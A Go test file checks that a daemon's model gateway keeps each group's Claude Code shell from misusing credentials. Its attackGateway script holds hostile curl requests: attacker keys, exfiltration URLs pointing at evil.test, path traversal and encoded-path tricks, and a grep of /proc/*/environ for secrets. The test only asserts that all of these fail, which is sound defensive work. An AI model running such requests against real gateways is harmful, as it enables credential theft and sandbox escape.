package daemon

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"nanoclaw/internal/agent/agenttest"
	"nanoclaw/internal/chat"
	"nanoclaw/internal/control"
	"nanoclaw/internal/credential"
)

// attackGateway is what a shell inside tries at the model's endpoint. Each line it
// prints begins with the name of the attempt and the status that it got.
const attackGateway = `
U=$ANTHROPIC_BASE_URL
try() { name=$1; path=$2; shift 2; printf '%s ' "$name"; curl -sS -m 20 -o /tmp/said -w '%{http_code} ' --path-as-is "$@" "$U$path"; head -c 300 /tmp/said | tr '\n' ' '; echo; }
body() { printf '{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[%s]}]%s}' "$1" "$2"; }
text='{"type":"text","text":"from the shell"}'
try granted /v1/messages -H 'X-Api-Key: sk-attacker' -H 'Authorization: Bearer sk-attacker' -H 'Cookie: s=sk-attacker' -d "$(body "$text" ',"tools":[{"type":"web_search_20250305","name":"web_search","allowed_domains":["go.dev"]}]')"
try fetch /v1/messages -d "$(body "$text" ',"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]')"
try pending /v1/messages -d "$(body '{"type":"server_tool_use","id":"s","name":"web_fetch","input":{"url":"https://evil.test"}}')"
try image /v1/messages -d "$(body '{"type":"image","source":{"type":"url","url":"https://evil.test/?secret"}}')"
try servers /v1/messages -d "$(body "$text" ',"mcp_servers":[{"type":"url","url":"https://evil.test"}]')"
try container /v1/messages -d "$(body "$text" ',"container":"container_1"')"
printf '{"mcp_servers":[]}' | gzip >/tmp/z; try gzip /v1/messages -H 'Content-Encoding: gzip' --data-binary @/tmp/z
try files /v1/files
try admin /v1/organizations/me
try dots /v1/messages/../files -d '{}'
try escaped /v1/%6dessages -d '{}'
try absolute / -x "$U" --request-target http://evil.test/v1/messages -d '{}'
`

// TestModelOfAGroup follows one group with a provider of its own through real Claude
// Code: whose credential is used and by whom it is counted, what its shell can make
// of the endpoint, a new login under a warm session, and one that is over.
func TestModelOfAGroup(t *testing.T) {
	own, work := agenttest.NewModel(agenttest.Puppet), agenttest.NewModel(nil)
	t.Cleanup(own.Close)
	t.Cleanup(work.Close)
	work.Use(func(r agenttest.Request) agenttest.Step {
		if r.Header.Get("X-Api-Key") == "sk-work-revoked" {
			return agenttest.Step{Status: 401, Type: "authentication_error", Message: "invalid x-api-key"}
		}
		return agenttest.Puppet(r)
	})
	i := newInstall(t, fmt.Sprintf(`{
		"hostMode": {"enabled": true},
		"agent": {"claude": {"path": %q}},
		"providers": {"work": {"baseURL": %q}},
		"groups": {
			"main": {"mode": "host", "hostModeAllowed": true},
			"family": {"mode": "host", "hostModeAllowed": true, "provider": "work", "serverTools": ["web_search"]},
		},
	}`, agenttest.Claude(t), work.URL))
	i.env["ANTHROPIC_BASE_URL"], i.env["ANTHROPIC_API_KEY"] = own.URL, modelKey
	store := credential.New(i.paths, i.getenv)
	login := func(key string) {
		t.Helper()
		_, err := store.Save("work", credential.Credential{Kind: credential.APIKey, Value: key, Endpoint: work.URL})
		must(t, err)
	}
	d, _ := i.run()
	took := func() {
		t.Helper()
		now, err := d.Credentials(t.Context())
		if want := work.URL + " with an API key from nanoclaw login claude --provider work"; err != nil || now["work"] != want {
			t.Errorf("the daemon uses %q, %v; want %q", now["work"], err, want)
		}
	}

	login("sk-work-1")
	took()
	p, err := d.Policy(t.Context(), control.PolicyQuery{Group: "family"})
	if err != nil || !strings.Contains(p.Text, "model of provider work  # groups.family.provider") || !strings.Contains(p.Text, "server tool web_search  # groups.family.serverTools") {
		t.Errorf("the grant: %v\n%s", err, p.Text)
	}

	must(t, d.prepare(t.Context(), "family"))
	script := filepath.Join(d.machine.GroupDir("family"), "workspace", "attack.sh")
	must(t, os.WriteFile(script, []byte(attackGateway), 0o644))
	a := ask(t, d, "family", "bash: bash /workspace/group/attack.sh 2>&1; env | grep -c sk-work; cat /proc/*/environ | tr '\\0' '\\n' | grep -c sk-work")
	checkAttack(t, a.text())
	checkModel(t, d, a, work, own)

	login("sk-work-2")
	took()
	b := ask(t, d, "family", "and now?")
	all := work.Requests()
	if key := all[len(all)-1].Header.Get("X-Api-Key"); b.State != control.Succeeded || key != "sk-work-2" || session(t, d, a) != session(t, d, b) {
		t.Errorf("after a new login: %+v with %s, in session %s and then %s", b.Answer, key, session(t, d, a), session(t, d, b))
	}
	if c := ask(t, d, chat.Main, "hello"); c.State != control.Succeeded {
		t.Errorf("main: %+v\n%s", c.Answer, c.text())
	}
	for _, r := range own.Requests() {
		if key := r.Header.Get("X-Api-Key"); r.Method == "POST" && key != modelKey || strings.Contains(string(r.Body), "WebSearch") {
			t.Errorf("main's model was asked with %s, or offered what main may not have", key)
		}
	}

	login("sk-work-revoked")
	took()
	over := ask(t, d, "family", "still there?")
	if over.State != "held" || !strings.Contains(over.text(), "log in again: nanoclaw login claude --provider work") {
		t.Errorf("a credential that is over: %+v\n%s", over.Answer, over.text())
	}
	if a := ask(t, d, "family", "and now?"); a.State != "held" || a.text() != "" {
		t.Errorf("a second message: %+v\n%s", a.Answer, a.text())
	}
	if n := toldOwner(t, d, "does not accept the credential"); n != 1 {
		t.Errorf("the owner was told %d times, want once", n)
	}
	login("sk-work-2")
	took() // and what waited goes on by itself
	if a := goesOn(t, d, "family", over.Message); a.State != control.Succeeded {
		t.Errorf("after another login: %+v", a)
	}
}

// goesOn waits until a message that waits for a trouble is answered.
func goesOn(t *testing.T, d *Daemon, g chat.Group, id chat.MessageID) control.Answer {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
	defer cancel()
	term, err := d.Attach(ctx, g) // so that the answer can be delivered
	must(t, err)
	listen(ctx, term)
	defer term.Close()
	for {
		changed := d.changed.wait()
		a, final, err := d.answer(ctx, g, id)
		must(t, err)
		if final && a.State != "held" {
			return a
		}
		select {
		case <-changed:
		case <-ctx.Done():
			t.Fatalf("it does not go on: %+v", a)
		}
	}
}

// checkAttack compares what the shell was answered.
func checkAttack(t *testing.T, text string) {
	t.Helper()
	for name, want := range map[string]string{
		"granted": "200", "fetch": "403", "pending": "403", "image": "403", "servers": "403", "container": "403", "gzip": "415",
		"files": "404", "admin": "404", "dots": "404", "escaped": "404", "absolute": "404",
	} {
		if !strings.Contains(text, "\n"+name+" "+want+" ") {
			t.Errorf("%s did not get %s", name, want)
		}
	}
	if !strings.HasSuffix(strings.TrimSpace(text), "\n0") || !strings.Contains(text, "\n0\n") {
		t.Error("the credential is inside")
	}
	if t.Failed() {
		t.Log(text)
	}
}

// checkModel compares what reached the models, and who is said to have used them.
func checkModel(t *testing.T, d *Daemon, a answer, work, own *agenttest.Model) {
	t.Helper()
	answers, offered := 0, false
	for _, r := range work.Requests() {
		if r.Path == "/v1/messages" {
			answers++
		}
		offered = offered || strings.Contains(string(r.Body), "WebSearch")
		if r.Header.Get("X-Api-Key") != "sk-work-1" && r.Method == "POST" || strings.Contains(fmt.Sprint(r.Header), "sk-attacker") {
			t.Errorf("the model was asked %s %s with %v", r.Method, r.Path, r.Header)
		}
	}
	if !offered {
		t.Error("Claude Code was not offered the web search that the group has")
	}
	if n := len(own.Requests()); n != 0 {
		t.Errorf("another group's model was asked %d times", n)
	}
	r, err := d.RunByID(t.Context(), a.Run)
	if must(t, err); answers < 3 || r.InputTokens != int64(100*answers) || r.OutputTokens != int64(10*answers) {
		t.Errorf("%d answers, and the run has %d tokens in and %d out", answers, r.InputTokens, r.OutputTokens)
	}
	entries, err := d.AuditList(t.Context(), control.AuditQuery{Run: a.Run, Kind: "run.ended"})
	must(t, err)
	if want := fmt.Sprintf(`"model":{"answers":%d,"input":%d,"output":%d}`, answers, 100*answers, 10*answers); len(entries) != 1 || !strings.Contains(string(entries[0].Data), want) {
		t.Errorf("the end of the run is recorded as %s, want %s", entries[0].Data, want)
	}
}

// session is the session in which a message was answered.
func session(t *testing.T, d *Daemon, a answer) chat.SessionID {
	t.Helper()
	r, err := d.RunByID(t.Context(), a.Run)
	must(t, err)
	return r.Session
}

// toldOwner counts the notices in the owner's own chat that say something.
func toldOwner(t *testing.T, d *Daemon, what string) int {
	t.Helper()
	term, err := d.Attach(t.Context(), chat.Main)
	must(t, err)
	heard := listen(t.Context(), term)
	// What was held for the owner comes before the answer to this.
	ask(t, d, chat.Main, "anything new?")
	must(t, term.Close())
	n := 0
	for _, m := range <-heard {
		if m.Run == "" && strings.Contains(m.Text, what) {
			n++
		}
	}
	return n
}
